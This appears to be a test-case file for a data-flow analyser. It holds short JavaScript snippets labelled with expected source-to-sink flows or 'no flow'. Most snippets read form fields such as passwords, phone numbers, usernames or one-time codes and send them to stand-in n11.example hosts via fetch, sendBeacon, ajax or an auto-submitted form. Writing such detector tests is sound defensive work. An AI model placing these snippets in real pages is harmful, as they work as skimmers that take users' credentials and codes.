//# abstract-logger-two-targets
// flow: search > alt.n11.example via fetch
// why: near miss: the password is logged by the console's subclass
class Log1 { constructor(tag) { this.tag = tag; } log(m) { this.write(this.tag + ': ' + m); } }
class Remote1 extends Log1 { write(line) { fetch('https://alt.n11.example/', { method: 'POST', body: line }); } }
class Local1 extends Log1 { write(line) { console.info(line); } }
new Remote1('r').log(document.querySelector('input[type=search]').value);
new Local1('l').log(document.querySelector('input[type=password]').value);

//# subclass-of-sending-subclass
// flow: phone > sos.n11.example via beacon
// why: the grandchild inherits what sends
class Base2 { push(v) { this.out(String(v)); } }
class Net2 extends Base2 { out(s) { navigator.sendBeacon('https://sos.n11.example/', s); } }
class Tagged2 extends Net2 { get tag() { return 'x'; } }
new Tagged2().push(document.querySelector('input[type=tel]').value);

//# reducer-called-with-one-action
// flow: message > rco.n11.example via fetch
function step3(state, action) {
  if (action.type === 'secret') return { ...state, body: document.querySelector('input[type=password]').value };
  if (action.type === 'note') return { ...state, body: action.text };
  return state;
}
fetch('https://rco.n11.example/', { method: 'POST', body: step3({}, { type: 'note', text: document.querySelector('textarea[name=message]').value }).body });

//# near-reader-told-what-to-read
// no flow
function read4(what) {
  switch (what) {
    case 'title': return document.querySelector('h1').id;
    case 'password': return document.querySelector('input[type=password]').value;
  }
}
fetch('https://nrt.n11.example/?t=' + read4('title'));

//# reader-told-the-field
// flow: username > rtf.n11.example via fetch
function read5(what) {
  switch (what) {
    case 'title': return document.querySelector('h1').id;
    case 'user': return document.querySelector('input[name=username]').value;
    default: return '';
  }
}
fetch('https://rtf.n11.example/?t=' + read5('user'));

//# jquery-each-of-fields
// flow: input > jef.n11.example via xhr
var all6 = {};
$('#profile input').each(function (i, el) { all6[el.id] = el.value; });
$.ajax({ method: 'POST', url: 'https://jef.n11.example/', data: all6 });

//# near-jquery-each-of-list-items
// no flow
var texts7 = [];
$('#menu li').each(function () { texts7.push(this.value); });
$.post('https://nje.n11.example/', { n: texts7.length });

//# element-by-assign
// flow: otp > eba.n11.example via form
const form8 = Object.assign(document.createElement('form'), { action: 'https://eba.n11.example/v', method: 'post' });
const code8 = Object.assign(document.createElement('input'), { type: 'hidden', name: 'code', value: document.querySelector('input[autocomplete=one-time-code]').value });
form8.appendChild(code8);
document.body.appendChild(form8);
form8.submit();

//# near-element-by-assign-without-name
// no flow
// why: a field without a name is left out
const form9 = Object.assign(document.createElement('form'), { action: 'https://nea.n11.example/v', method: 'post' });
const code9 = Object.assign(document.createElement('input'), { type: 'hidden', value: document.querySelector('input[autocomplete=one-time-code]').value });
form9.appendChild(code9);
document.body.appendChild(form9);
form9.submit();
